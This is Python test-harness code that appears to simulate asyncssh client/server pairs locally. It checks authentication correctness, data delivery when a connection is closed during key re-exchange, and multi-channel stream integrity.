        s52 = next((i for i, p in enumerate(pk)
                    if p[0] == 'S' and p[1] == 52), None)
        r90 = next((i for i, p in enumerate(pk)
                    if p[0] == 'R' and p[1] == 90), None)

        if r90 is not None and (s52 is None or r90 < s52):
            # the open reached the server before it had sent SUCCESS
            if res.get('mid_open_reply') in (91, 92) or not o.lost:
                world.violation(
                    'channel-before-auth', 'CHANNEL_OPEN received before '
                    'authentication completed was answered/tolerated '
                    '(reply %r, connection lost %r)' %
                    (res.get('mid_open_reply'), o.lost[:1]))

    if plan.get('probe_before'):
        pass
    elif o is not None:
        # requests the server actually received before it sent SUCCESS
        label = getattr(o.conn, '_sim_label', None) or \
            next((l for l in sim.pkts if l.startswith('S')), None)
        pk = sim.pkts.get(label, [])
        s52 = next((i for i, p in enumerate(pk)
                    if p[0] == 'S' and p[1] == 52), None)
        nreq_before = sum(1 for p in pk[:s52 if s52 is not None else len(pk)]
                          if p[0] == 'R' and p[1] == 50)
        received = [h for h in hist if h[0] != 'open'][:nreq_before]

        if success:
            sim.probes['success_seen'] += 1
            user = o.completed_as
            cands = []

            for h in received:
                ok, opts = model_valid(plan, h)

                if (ok or ok is None) and h[1] == user:
                    cands.append((h, opts))

            if nreq_before < res['sent'] and s52 is not None:
                sim.probes['success_with_pending_request'] += 1

            if not cands:
                world.violation(
                    'unauthorized-success',
                    'server reports authentication as %r but no request '
                    'received before SUCCESS carried a valid credential for '
                    'that user; requests received: %r (validator calls: %r)'
                    % (user, received, o.validations[-4:]),
                    sig='user-switch' if any(
                        model_valid(plan, h)[0] is not False
                        for h in received)
                    else 'no-valid-credential')
            else:
                kinds = {c[0][0] for c in cands}

                if user == 'guest':
                    sim.probes['guest_success'] += 1
                elif 'pk' in kinds:
                    sim.probes['pk_success'] += 1
                elif 'pw' in kinds:
                    sim.probes['pw_success'] += 1
                elif 'kbd' in kinds:
                    sim.probes['kbdint_success'] += 1
                elif 'hb' in kinds:
                    sim.probes['hostbased_success'] += 1

                # -- restrictions of the accepted credential --------------------
                def behaviour_ok(opts):
                    pr = res['probe']

                    if 'pty' in pr:
                        want = 100 if opts.get('no-pty') else 99

                        if pr['pty'] != want:
                            return 'pty reply %d, expected %d' % (pr['pty'],
                                                                  want)

                    if pr.get('exec') == 99:
                        want = opts.get('command', 'mycmd')

                        if o.seen.get('command') != want:
                            return 'command run %r, expected %r' % (
                                o.seen.get('command'), want)

                    if 'tcp_other' in pr:
                        want = 92 if opts.get('permitopen') else 91

                        if pr['tcp_other'] != want:
                            return 'direct-tcpip other:81 reply %d, ' \
                                'expected %d' % (pr['tcp_other'], want)

                    if 'tcp_ok' in pr and pr['tcp_ok'] != 91:
                        return 'direct-tcpip dest:80 refused'

                    return None

                if res['probe']:
                    sim.probes['options_checked'] += 1
                    why = [behaviour_ok(opts) for _h, opts in cands]

                    if all(why):
                        world.violation(
                            'wrong-restrictions',
                            'after authenticating as %r with %r the enforced '
                            'restrictions match no accepted credential: %s '
                            '(probes %r, app saw %r)' %
                            (user, [c[0] for c in cands], why[0],
                             res['probe'], o.seen),
                            sig=why[0].split(',')[0].split(' ')[0])
        else:
            # no success: a valid request that was waited for must succeed
            for i, h in enumerate(received):
                ok, _ = model_valid(plan, h)

                if ok and h[-1] and h[0] != 'kbd' and not o.lost:
                    # (a waited-for valid request; earlier requests cannot
                    # have ended the dialogue since nothing succeeded)
                    world.violation(
                        'valid-credential-rejected',
                        'request %r is valid and was waited for, yet no '
                        'SUCCESS was ever sent (replies %r)' %
                        (h, res['replies']), sig=h[0])
                    break

            for pr, code in res['probe'].items():
                if code == 91:
                    world.violation('channel-before-auth', 'probe %s was '
                                    'served without authentication' % pr)

    if any(plan.get(k) for k in ('async_begin', 'async_pw', 'async_pk')):
        sim.probes['validator_async'] += 1

    if o is not None and o.not_begun:
        world.violation(
            'begin-auth-skipped', 'the application was asked to check a '
            'credential (%s) for user %r without begin_auth() having been '
            'called for that user; requests: %r' %
            (o.not_begun[0][0], o.not_begun[0][1], hist),
            sig=repr(o.not_begun[0][1]))

    if any(h[1] == '' for h in hist if len(h) > 1):
        sim.probes['empty_user_name'] += 1

    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(loop_errors=False)
    sample = {'history': hist, 'replies': res['replies'],
              'authenticated_as': o.completed_as if o else None,
              'probes': res['probe'], 'seen': o.seen if o else None,
              'async': [plan['async_begin'], plan['async_pw'],
                        plan['async_pk']]}
    return world.result(nontrivial=len(hist) > 1 or bool(res['probe']),
                        sample=sample)


def make_cert(user_key, ca, principals, valid=True):
    now = int(__import__('simkit.seams', fromlist=['x']).wall_now())
    return ca.generate_user_certificate(
        user_key, 'kid', principals=principals,
        valid_after=now - 3600 if valid else now + 3600,
        valid_before=now + 3600 if valid else now + 7200)


def run_honest(world, plan):
    sim = world.sim
    hon = plan['honest']
    user, cred = hon['user'], hon['cred']
    app = {}
    res = {'conn': None, 'exc': None}

    def sfactory():
        app['o'] = AuthServer(world, plan)
        return app['o']

    kw = {}
    expect = False

    if cred == 'password':
        kw = dict(password=PASSWORDS[user])
        expect = True
    elif cred == 'wrong_password':
        kw = dict(password='nope')
    elif cred == 'key':
        kname = 'user_ed25519' if user == 'alice' else 'user_rsa'
        kw = dict(client_keys=[key(kname)])
        expect = True
    elif cred == 'other_key':
        kw = dict(client_keys=[key('evil_ed25519')])
    elif cred == 'cert':
        k = key('user_ecdsa256')
        cert = make_cert(k, key('ca_ed25519'), [user])
        kw = dict(client_keys=[(k, cert)])
        expect = True
    elif cred == 'bad_cert':
        k = key('user_ecdsa256')
        cert = make_cert(k, key('ca_ed25519'), ['someone-else'])
        kw = dict(client_keys=[(k, cert)])
    elif cred == 'none_needed':
        user = 'guest'
        expect = True
    elif cred == 'shared_key':
        # key pairs loaded once and used for two connections at the same
        # time, to servers that ask for different signature algorithms
        user = 'bob'
        kw = dict(client_keys=asyncssh.load_keypairs([key('user_rsa')]))
        expect = True
    else:
        user = 'kbd'
        kw = dict(kbdint_auth=True, password=None,
                  client_factory=lambda: KbdClient(world))
        expect = True

    async def main():
        acc = await asyncssh.listen('127.0.0.1', 22, server_factory=sfactory,
                                    **server_opts(login_timeout=60))
        opts = client_opts(username=user,
                           known_hosts=([pubkey('host_ed25519')], [], []))
        opts.update(kw)
        acc2 = None

        if cred == 'shared_key':
            acc.close()
            await acc.wait_closed()
            acc = await asyncssh.listen(
                '127.0.0.1', 22, server_factory=sfactory,
                **server_opts(login_timeout=60,
                              signature_algs=['rsa-sha2-256']))
            acc2 = await asyncssh.listen(
                '127.0.0.1', 23, server_factory=sfactory,
                **server_opts(login_timeout=60,
                              signature_algs=['rsa-sha2-512']))
            sim.probes['key_pairs_shared_by_two_connections'] += 1

            async def second():
                try:
                    c2 = await asyncssh.connect('127.0.0.1', 23, **opts)
                    res['conn2'] = c2
                except Exception as exc: # pylint: disable=broad-except
                    res['exc2'] = exc

            t2 = sim.track('second-conn', second())

        try:
            res['conn'] = await asyncssh.connect('127.0.0.1', 22, **opts)
        except Exception as exc: # pylint: disable=broad-except
            res['exc'] = exc

        if cred == 'shared_key':
            await t2

        if res['conn'] is not None:
            # an admitted client is served
            async def probe():
                try:
                    chan, _ = await res['conn'].create_session(
                        asyncssh.SSHClientSession, 'mycmd')
                    res['probe'] = 'opened'
                    chan.close()
                except (asyncssh.Error, OSError) as exc:
                    res['probe'] = exc

            res['probe_task'] = sim.track('probe', probe())

        await world.gate('done')

        if res['conn'] is not None:
            res['conn'].close()
            await res['conn'].wait_closed()

        if res.get('conn2') is not None:
            res['conn2'].close()
            await res['conn2'].wait_closed()

        acc.close()
        await acc.wait_closed()

        if acc2 is not None:
            acc2.close()
            await acc2.wait_closed()

    world.start(main())
    world.run_phase()
    o = app.get('o')

    if expect and cred == 'shared_key' and res['conn'] is not None and \
            res.get('conn2') is None:
        world.violation('valid-credential-rejected',
                        'two connections use the same loaded key pairs at '
                        'the same time: the second one was not admitted: %r'
                        % (res.get('exc2'),), sig=cred)
    elif expect:
        if res['conn'] is None:
            world.violation('valid-credential-rejected',
                            'honest client with %s for %s was not admitted: '
                            '%r' % (cred, user, res['exc']), sig=cred)
        else:
            sim.probes['honest_admitted'] += 1

            if o is not None and o.completed_as != user:
                world.violation('unauthorized-success', 'honest client '
                                'authenticated as %r, server reports %r' %
                                (user, o.completed_as), sig='honest')
            elif not sim.loop.capped and res.get('probe') != 'opened':
                world.violation(
                    'admitted-client-not-served', 'honest client admitted '
                    'as %r (%s%s): its session open %s' %
                    (user, cred, ', auth_completed() waits for an answer of '
                     'the client' if hon.get('ac_roundtrip') else '',
                     'was never answered' if 'probe' not in res
                     else 'failed: %r' % (res['probe'],)),
                    sig='probe-' + cred)
    else:
        if res['conn'] is not None:
            world.violation('unauthorized-success', 'honest-protocol client '
                            'with %s was admitted as %s' % (cred, user),
                            sig='honest-' + cred)
        else:
            sim.probes['honest_rejected'] += 1

            if not isinstance(res['exc'], asyncssh.PermissionDenied):
                world.violation('wrong-error', 'rejected credential: '
                                'expected PermissionDenied, got %r' %
                                (res['exc'],), sig=type(res['exc']).__name__)

    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(loop_errors=False)
    return world.result(nontrivial=True, sample={'honest': hon,
                                                 'admitted': res['conn']
                                                 is not None})


class KbdClient(RecClient):
    def kbdint_auth_requested(self):
        return ''

    def kbdint_challenge_received(self, name, instructions, lang, prompts):
        return ['yes' for _ in prompts]


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)

    if 'restrict' in plan:
        from checks.c05_restrict import run_restrict
        return run_restrict(world, plan)

    if 'honest' in plan:
        return run_honest(world, plan)

    return run_hostile(world, plan)
