"""C11, closing behind a write: one side writes, waits for drain() and closes
the connection ("closes the SSH connection after buffered data waiting to be
written has been sent").  On a network that takes every byte at once, what
was written reaches the other application whether or not a key re-exchange
happens to be running at that moment: the re-exchange is drawn to be set off
by the write itself, by earlier traffic, or not at all."""

import asyncio

import asyncssh

from simkit.world import World, RecServer, client_opts, server_opts
from .chanload import gen_bytes

THRESHOLDS = [1, 64, 300, 1500, 6000, 20000, 1 << 30]


def gen_plan(rng):
    nchunks = rng.weighted([(1, 4), (2, 3), (5, 2), (12, 1)])
    return {
        'drbg': rng.below(1 << 30),
        # capacity 0: the link accepts everything that is written to it, so
        # nothing is ever waiting in the transport when it is closed
        'profile': {'p_sched': rng.choice([0, 30, 70, 95]),
                    'p_chunk': rng.choice([10, 50, 90]),
                    'latency_ms': rng.choice([0, 0, 2, 40]), 'capacity': 0,
                    # (a re-exchange that never ends shows as a run that
                    # never gets quiet)
                    'max_iterations': 8000},
        'pop': 'closing',
        'writer': rng.choice(['c', 's']),
        'chunks': [rng.choice([1, 10, 200, 3000, 20000, 70000])
                   for _ in range(nchunks)],
        'warm': rng.choice([0, 0, 100, 5000]),
        'eof': rng.chance(70),
        'rekey': {'c_bytes': rng.choice(THRESHOLDS),
                  's_bytes': rng.choice(THRESHOLDS)},
        'gap': rng.below(3),
        # the receiving session stops reading after its first piece of data
        # (what arrives is parked in the channel) and never resumes
        'recv_pauses': rng.chance(30),
        # the link is lost a drawn number of steps after close(): whatever
        # close() is still waiting for, the connection has to end (what was
        # written may be lost then)
        'cut': {'after': rng.below(6),
                'how': rng.choice(['rst', 'eof', 'silence'])}
        if rng.chance(25) else None,
    }


def valid_plan(plan):
    try:
        rk = plan['rekey']

        if plan['writer'] not in ('c', 's') or not plan['chunks'] or \
                len(plan['chunks']) > 40 or plan['profile']['capacity'] or \
                rk['c_bytes'] < 1 or rk['s_bytes'] < 1 or \
                not 0 <= plan['warm'] <= 100000 or not 0 <= plan['gap'] <= 8:
            return False

        cut = plan.get('cut')

        if cut is not None and (not 0 <= cut['after'] <= 20 or
                                cut['how'] not in ('rst', 'eof', 'silence')):
            return False

        # everything fits the default window: drain() then means "handed to
        # the connection"
        return all(1 <= n <= 100000 for n in plan['chunks']) and \
            sum(plan['chunks']) <= 1000000
    except (KeyError, TypeError):
        return False


class _Rec:
    """Callback session recording what it is given"""

    pauses = False

    def __init__(self):
        self.data = bytearray()
        self.eof = False
        self.lost = 0
        self.after_lost = 0
        self.chan = None

    def connection_made(self, chan):
        self.chan = chan

    def shell_requested(self):
        return True

    def data_received(self, data, datatype):
        if self.lost:
            self.after_lost += 1

        self.data.extend(data)

        if self.pauses:
            self.pauses = False
            self.chan.pause_reading()

    def eof_received(self):
        self.eof = True
        return True

    def connection_lost(self, exc):
        self.lost += 1


class Sink(_Rec, asyncssh.SSHClientSession):
    pass


class SrvSink(_Rec, asyncssh.SSHServerSession):
    pass


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    rk = plan['rekey']
    payload = [gen_bytes('close.%d' % k, 0, n)
               for k, n in enumerate(plan['chunks'])]
    res = {'srv': None, 'cli': None, 'exc': None, 'in_kex': None,
           'closed': False}

    class Srv(RecServer):
        def session_requested(self):
            res['srv'] = SrvSink()
            return res['srv']

    async def write_and_close(chan, conn):
        if plan['warm']:
            chan.write(gen_bytes('warm', 0, plan['warm']))

            for _ in range(3):
                await sim.pause('warm')

        for data in payload:
            chan.write(data)

        if plan['eof']:
            chan.write_eof()

        # what drain() of a stream writer waits for
        while chan.get_write_buffer_size():
            await sim.pause('drain')

        for _ in range(plan['gap']):
            await sim.pause('gap')

        res['in_kex'] = not conn._kex_complete
        res['closed'] = True
        conn.close()

        if plan.get('cut'):
            for _ in range(plan['cut']['after']):
                await sim.pause('cut')

            if sim.net.connections and plan['cut']['how'] == 'silence':
                # nothing gets through any more, in either direction, and
                # nobody says so
                sim.net.connections[0].stall()
                sim.probes['link_silent_after_close'] += 1
            elif sim.net.connections:
                sim.net.connections[0].cut(plan['cut']['how'])
                sim.probes['link_cut_after_close'] += 1

    async def main():
        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=lambda: Srv(world),
            encoding=None, **server_opts(rekey_bytes=rk['s_bytes']))

        try:
            conn = await asyncssh.connect(
                '127.0.0.1', 22, **client_opts(rekey_bytes=rk['c_bytes']))
            chan, sess = await conn.create_session(Sink, encoding=None)
            res['cli'] = sess
        except (asyncssh.Error, OSError) as exc:
            res['exc'] = exc
            acc.close()
            return

        for _ in range(4):
            await sim.pause('settle')

        if plan.get('recv_pauses'):
            (res['srv'] if plan['writer'] == 'c' else res['cli']).pauses = True
            sim.probes['receiver_paused_at_close'] += 1

        sconn = res['srv'].chan.get_connection()
        closer, other = (conn, sconn) if plan['writer'] == 'c' \
            else (sconn, conn)
        await write_and_close(chan if plan['writer'] == 'c'
                              else res['srv'].chan, closer)

        # whatever the link does, the side that closed gets done with it
        await closer.wait_closed()
        res['closer_done'] = True

        if (plan.get('cut') or {}).get('how') == 'silence':
            # (the other side cannot know: end it by hand)
            other.abort()

        await conn.wait_closed()
        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()

    want = b''.join(payload)

    if plan['warm']:
        want = gen_bytes('warm', 0, plan['warm']) + want

    if res['exc'] is not None:
        world.violation('connect-failed', 'no fault, yet the session could '
                        'not be opened: %r' % (res['exc'],))
    elif not sim.loop.capped and res['closed']:
        recv = res['srv'] if plan['writer'] == 'c' else res['cli']
        got = bytes(recv.data)
        how = 'kex-in-progress' if res['in_kex'] else 'no-kex'

        if res['in_kex']:
            sim.probes['closed_during_kex'] += 1
        else:
            sim.probes['closed_outside_kex'] += 1

        if plan.get('cut'):
            # only the order and the end are checked
            if not want.startswith(got):
                world.violation('stream-mismatch', 'delivered data is not '
                                'a prefix of what was written')
        elif got != want:
            kind = 'written-data-lost-at-close' if want.startswith(got) \
                else 'stream-mismatch'
            world.violation(
                kind, '%s wrote %d bytes, saw its channel\'s send buffer '
                'empty and closed the connection (%s at that moment); the '
                'other application received %d bytes (rekey_bytes client %d '
                'server %d)' % (plan['writer'], len(want), how, len(got),
                                rk['c_bytes'], rk['s_bytes']), sig=how)
        elif plan['eof'] and not recv.eof:
            world.violation(
                'written-data-lost-at-close', '%s wrote %d bytes and EOF and '
                'closed the connection (%s at that moment); the other '
                'application received the data but no EOF' %
                (plan['writer'], len(want), how), sig=how)
        elif recv.eof and not plan['eof']:
            world.violation('eof-mismatch', 'EOF delivered though none was '
                            'written')

        for s in (res['srv'], res['cli']):
            if s is not None and (s.lost != 1 or s.after_lost) and \
                    not sim.hung():
                world.violation('lost-count', 'connection_lost called %d '
                                'times, %d deliveries after it' %
                                (s.lost, s.after_lost))
    elif not sim.loop.capped and not world.violations:
        world.violation('hang', 'writer never got to close the connection')

    if not sim.loop.capped and res['closed'] and sim.hung():
        world.violation('hang', 'after close()%s the connection never '
                        'finished closing: %r' %
                        (' and loss of the link' if plan.get('cut') else '',
                         sim.hung()), sig='close')

    sim.probes['pop_closing'] += 1
    world.check_loop_health(internal_errors=True)
    out = world.result(nontrivial=res['closed'],
                       sample={'writer': plan['writer'], 'rekey': rk,
                               'chunks': plan['chunks'][:6],
                               'in_kex': res['in_kex']})
    world.close()
    return out
