"""Shared multi-channel data workload on a real asyncssh client/server pair
(used by C07, C08, C11 and, with a wire, C01).

Every stream (channel, direction, datatype) carries position-dependent
content, so loss, duplication and reordering all show as inequality with a
meaningful first-difference offset.
"""

import asyncio
import hashlib

import asyncssh

from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts

STDERR = asyncssh.EXTENDED_DATA_STDERR

_ALPHABET = 'aé€😀Zß中\n0¢'
_pat_cache = {}


def _pattern(tag):
    p = _pat_cache.get(tag)

    if p is None:
        p = b''

        while len(p) < 251:
            p += hashlib.blake2b((tag + str(len(p))).encode(),
                                 digest_size=64).digest()

        p = _pat_cache[tag] = p[:251]

    return p


_XOR = [bytes(i ^ k for i in range(256)) for k in range(256)]
_TXT = {i: _ALPHABET[i % len(_ALPHABET)] for i in range(256)}


def gen_bytes(tag, off, n):
    """n bytes of the stream `tag` starting at absolute offset off:
       byte i = P[i % 251] ^ ((i // 251) & 0xff)"""

    if n <= 0:
        return b''

    p = _pattern(tag)
    k0, k1 = off // 251, (off + n - 1) // 251
    blocks = [p.translate(_XOR[k & 0xff]) for k in range(k0, k1 + 1)]
    buf = b''.join(blocks)
    start = off - k0 * 251
    return buf[start:start + n]


def gen_text(tag, off, n):
    return gen_bytes(tag, off, n).decode('latin-1').translate(_TXT)


_mixed_cache = {}


def mixed_stream(tag, need):
    """UTF-8 encoding of the text stream `tag`, at least `need` bytes"""

    cur = _mixed_cache.get(tag, b'')

    if len(cur) < need + 4:
        units = max(64, 2 * (need + 4))
        cur = gen_text(tag, 0, units).encode('utf-8')
        _mixed_cache.clear() if len(_mixed_cache) > 64 else None
        _mixed_cache[tag] = cur

    return cur


def first_diff(a, b):
    n = min(len(a), len(b))

    for i in range(n):
        if a[i] != b[i]:
            return i

    return n


# -- plan generation ---------------------------------------------------------------

SIZES = [0, 1, 2, 3, 5, 7, 8, 15, 16, 17, 31, 32, 33, 63, 64, 65, 100, 255,
         256, 257, 1000, 1023, 1024, 1025, 4095, 4096, 4097, 8191, 32768,
         32769, 40000, 70000]


def gen_profile(rng, heavy=False):
    return {
        'p_sched': rng.choice([0, 10, 30, 60, 90]),
        'p_chunk': rng.choice([10, 50, 90]),
        'latency_ms': rng.choice([0, 0, 0, 1, 20, 300]),
        'capacity': rng.choice([0, 0, 0, 200, 4096, 65536]),
    }


def gen_ops(rng, window, allow_stderr, max_total, text):
    ops = []
    total = 0
    nops = rng.weighted([(0, 1), (1, 3), (2, 3), (4, 3), (8, 2), (16, 1)])

    for _ in range(nops):
        r = rng.below(100)

        if r < 70:
            style = rng.below(4)

            if style == 0:
                n = rng.choice(SIZES)
            elif style == 1:
                n = max(0, window + rng.between(-2, 2))
            elif style == 2:
                n = rng.between(0, 3 * window + 3) if window < 5000 \
                    else rng.between(0, 5000)
            else:
                n = rng.between(0, 40)

            if text:
                n = min(n, 20000)

            if total + n > max_total:
                n = max(0, max_total - total)

            total += n
            dt = 1 if allow_stderr and rng.chance(30) else 0
            ops.append(['w', n, dt])
        else:
            ops.append(['y'])

    if rng.chance(60):
        # ... and maybe close right behind the EOF (what exit() does): the
        # peer may still have data of this stream undelivered at that point
        ops.append(['eof', 'close'] if rng.chance(30) else ['eof'])

    return ops


def gen_channel(rng, idx, srv_window, srv_pktsize, text, max_pkts=120):
    kind = 'session' if rng.chance(75) else 'tcp'
    text = text and kind == 'session'
    window = rng.choice([1, 2, 5, 16, 100, 1000, 4096, 32768, 2097152])
    pktsize = rng.choice([1, 2, 3, 7, 64, 1000, 32768])
    max_c2s = min(150000, max_pkts * min(srv_pktsize, srv_window))
    max_s2c = min(150000, max_pkts * min(pktsize, window))
    ch = {
        'kind': kind, 'text': text,
        'window': window, 'pktsize': pktsize,
        'reader_c': rng.choice(['cb', 'cb', 'stream']),
        'reader_s': rng.choice(['cb', 'cb', 'stream']),
        # c2s data is limited by the *server's* advertised window
        'c2s': gen_ops(rng, srv_window, False, max_c2s, text),
        's2c': gen_ops(rng, window, kind == 'session', max_s2c, text),
        'pause_c': sorted(rng.sample(range(1, 40), rng.choice([0, 0, 1, 3, 8]))),
        'pause_s': sorted(rng.sample(range(1, 40), rng.choice([0, 0, 1, 3, 8]))),
        'read_n': rng.choice([1, 3, 64, 1000, 65536]),
    }
    return ch


def gen_plan(rng, max_channels=4, rekey=False):
    srv_window = rng.choice([1, 3, 16, 100, 1000, 4096, 32768, 2097152])
    srv_pktsize = rng.choice([1, 2, 5, 64, 1000, 32768])
    text = rng.chance(35)
    # mixed: the server side works in bytes (as a non-asyncssh peer or a
    # program writing raw UTF-8 would), the client in text mode: multi-byte
    # characters then get cut anywhere, also between a stdout and a stderr
    # write
    mixed = text and rng.chance(35)
    plan = {
        'drbg': rng.below(1 << 30),
        'profile': gen_profile(rng),
        'text': text, 'mixed': mixed,
        'errors': rng.choice(['strict', 'strict', 'replace']),
        'srv_window': srv_window,
        'srv_pktsize': srv_pktsize,
        'channels': [gen_channel(rng, i, srv_window, srv_pktsize, text)
                     for i in range(rng.weighted([(1, 4), (2, 3), (3, 2),
                                                  (max_channels, 1)]))],
        'closer': rng.choice(['client', 'server', 'both', 'conn']),
        'algs': {},
    }

    for ch in plan['channels']:
        ch['mixed'] = bool(mixed and ch['text'])
        # with errors='replace' a stream may end inside a character: the
        # reader is then owed a replacement character for the torso
        ch['cut_at_eof'] = bool(ch['mixed'] and plan['errors'] == 'replace'
                                and rng.chance(50))

    return clamp_plan(plan)


def est_packets(plan, ch, direction):
    if direction == 'c2s':
        unit = min(plan['srv_pktsize'], plan['srv_window'])
    else:
        unit = min(ch['pktsize'], ch['window'])

    total = sum(op[1] for op in ch[direction] if op[0] == 'w')
    # text units may take up to 4 bytes each
    return (total * (4 if ch.get('text') else 1)) // max(1, unit)


def clamp_plan(plan, max_pkts=120):
    """Trim write sizes so no stream needs more than max_pkts packets"""

    for ch in plan['channels']:
        for direction in ('c2s', 's2c'):
            if direction == 'c2s':
                unit = min(plan['srv_pktsize'], plan['srv_window'])
            else:
                unit = min(ch['pktsize'], ch['window'])

            budget = max_pkts * unit // (4 if ch.get('text') else 1)

            for op in ch[direction]:
                if op[0] == 'w':
                    op[1] = min(op[1], max(0, budget))
                    budget -= op[1]

    return plan


def valid_plan(plan, max_pkts=400):
    try:
        for ch in plan['channels']:
            for direction in ('c2s', 's2c'):
                if est_packets(plan, ch, direction) > max_pkts:
                    return False
    except (KeyError, TypeError, IndexError):
        return False

    try:
        if plan['srv_window'] < 1 or plan['srv_pktsize'] < 1:
            return False

        for ch in plan['channels']:
            if ch['window'] < 1 or ch['pktsize'] < 1 or ch['read_n'] < 1:
                return False

            if ch['kind'] not in ('session', 'tcp'):
                return False

            # the encodings of the two endpoints follow from these: a
            # channel cannot be text on one level and bytes on the other
            if bool(ch['text']) != bool(plan.get('text') and
                                        ch['kind'] == 'session'):
                return False

            if bool(ch.get('mixed')) != bool(plan.get('mixed') and
                                             ch['text']):
                return False

            if ch.get('cut_at_eof') and not (
                    ch.get('mixed') and plan.get('errors') == 'replace'):
                return False

            for ops in (ch['c2s'], ch['s2c']):
                for op in ops:
                    if op[0] == 'eof' and op[1:] not in ([], ['close']):
                        return False
    except (KeyError, TypeError):
        return False

    return True


# -- sessions ------------------------------------------------------------------------


class Endpoint:
    """What one side of one channel saw and did"""

    def __init__(self, world, name, ch, side):
        self.world = world
        self.name = name
        self.ch = ch
        self.side = side
        self.text = ch['text'] and not (ch.get('mixed') and side == 's')
        self.mixed_bytes = bool(ch['text'] and ch.get('mixed') and
                                side == 's')
        self.recv = {0: [], 1: []}
        self.eof = False
        self.eof_dt = {0: False, 1: False}
        self.lost = None
        self.lost_count = 0
        self.after_lost = []
        self.after_eof = []
        self.chan = None
        self.ncb = 0
        self.pauses = list(ch['pause_c' if side == 'c' else 'pause_s'])
        self.sent = {0: 0, 1: 0}
        self.sent_eof = False
        self.closed_early = False
        self.started = world.sim.loop.create_future()
        self.write_paused = False
        self.hold = None

    def got(self, data, datatype):
        dt = 1 if datatype == STDERR else 0

        if self.lost_count:
            self.after_lost.append(('data', len(data)))

        if self.eof_dt[dt]:
            self.after_eof.append(('data', len(data)))

        self.recv[dt].append(data)
        self.world.event(self.name, 'data', dt, len(data))

    def joined(self, dt):
        return ('' if self.text else b'').join(self.recv[dt])


class CbSession:
    """Callback-level session (client, server or TCP), recording"""

    def __init__(self, ep):
        self.ep = ep

    def connection_made(self, chan):
        self.ep.chan = chan
        self.ep.world.event(self.ep.name, 'made')

    def session_started(self):
        self.ep.world.event(self.ep.name, 'started')

        if not self.ep.started.done():
            self.ep.started.set_result(None)

    def shell_requested(self):
        return True

    def exec_requested(self, command):
        return True

    def data_received(self, data, datatype):
        ep = self.ep
        ep.got(data, datatype)
        ep.ncb += 1

        if ep.pauses and ep.ncb >= ep.pauses[0] and ep.chan is not None:
            ep.pauses.pop(0)
            ep.chan.pause_reading()
            ep.world.sim.probes['reader_paused'] += 1
            fut = ep.world.sim.app_event('resume:' + ep.name)
            chan = ep.chan
            fut.add_done_callback(lambda f: chan.resume_reading())

    def eof_received(self):
        ep = self.ep

        if ep.lost_count:
            ep.after_lost.append(('eof',))

        if ep.eof:
            ep.after_eof.append(('eof',))

        ep.eof = True
        ep.eof_dt[0] = ep.eof_dt[1] = True
        ep.world.event(ep.name, 'eof')
        return True

    def connection_lost(self, exc):
        ep = self.ep
        ep.lost_count += 1
        ep.lost = exc
        ep.world.event(ep.name, 'lost', type(exc).__name__ if exc else None)

        if not ep.started.done():
            ep.started.set_result(None)

    def pause_writing(self):
        self.ep.write_paused = True
        self.ep.world.sim.probes['session_pause_writing'] += 1

    def resume_writing(self):
        self.ep.write_paused = False

    # client-only callbacks (recorded so "nothing after lost" covers them)
    def exit_status_received(self, status):
        if self.ep.lost_count:
            self.ep.after_lost.append(('exit_status',))

    def exit_signal_received(self, *args):
        if self.ep.lost_count:
            self.ep.after_lost.append(('exit_signal',))


class ClientCb(CbSession, asyncssh.SSHClientSession):
    pass


class ServerCb(CbSession, asyncssh.SSHServerSession):
    pass


class TcpCb(CbSession, asyncssh.SSHTCPSession):
    pass


class ChanServer(RecServer):
    """Server owner creating recording sessions in channel-open order"""

    def session_requested(self):
        run = self.world.run
        idx = run.next_session
        run.next_session += 1
        ep = run._by_order[('s', idx)]

        if ep.ch['reader_s'] == 'stream':
            return run.make_stream_handler(ep)

        return ServerCb(ep)

    def connection_requested(self, dest_host, dest_port, orig_host,
                             orig_port):
        run = self.world.run
        ep = run.eps[('s', dest_port - 1000)]

        if ep.ch['reader_s'] == 'stream':
            return run.make_tcp_stream_handler(ep)

        return TcpCb(ep)


class ChanRun:
    """Drives the workload inside a World"""

    def __init__(self, world, plan, extra_server_opts=None,
                 extra_client_opts=None):
        self.world = world
        world.run = self
        self.plan = plan
        self.sim = world.sim
        self.next_session = 0
        self.eps = {}
        self.writers = []
        self.readers = []
        self.extra_server_opts = extra_server_opts or {}
        self.extra_client_opts = extra_client_opts or {}
        self.client = None
        self.server_owner = None
        self.conn = None
        self.acceptor = None
        self.opened = []
        self.open_errors = []
        self.connect_error = None
        self.phase = 'setup'
        sess = [i for i, ch in enumerate(plan['channels'])
                if ch['kind'] == 'session']

        for i, ch in enumerate(plan['channels']):
            self.eps[('c', i)] = Endpoint(world, 'c%d' % i, ch, 'c')
            self.eps[('s', i)] = Endpoint(world, 's%d' % i, ch, 's')

        # session_requested sees sessions in open order: map order -> index
        self._session_order = sess
        remap = {}

        for order, i in enumerate(sess):
            remap[('s', order)] = self.eps[('s', i)]

        self._by_order = remap

    # -- stream-level endpoints -------------------------------------------------------

    def make_stream_handler(self, ep):
        async def handler(stdin, stdout, stderr):
            ep.chan = stdout.channel
            ep.writer = stdout
            ep.stderr_writer = stderr

            if not ep.started.done():
                ep.started.set_result(None)

            await self.stream_reader(ep, stdin, 0)

        return handler

    def make_tcp_stream_handler(self, ep):
        async def handler(reader, writer):
            ep.chan = writer.channel
            ep.writer = writer

            if not ep.started.done():
                ep.started.set_result(None)

            await self.stream_reader(ep, reader, 0)

        return handler

    async def stream_reader(self, ep, reader, dt):
        """Read through the stream API until EOF; pauses are yields"""

        n = ep.ch['read_n']
        pauses = set(ep.ch['pause_c' if ep.side == 'c' else 'pause_s'])
        k = 0

        try:
            while True:
                if ep.hold is not None:
                    await ep.hold

                data = await reader.read(n)

                if not data:
                    if not reader.at_eof():
                        # asyncssh returns '' when a packet held only part
                        # of a multi-byte character; not an EOF (see C19)
                        self.sim.probes['empty_read_before_eof'] += 1
                        ep.empty_reads = getattr(ep, 'empty_reads', 0) + 1
                        continue

                    ep.eof_dt[dt] = True

                    if dt == 0:
                        ep.eof = True
                        ep.world.event(ep.name, 'eof')
                    break

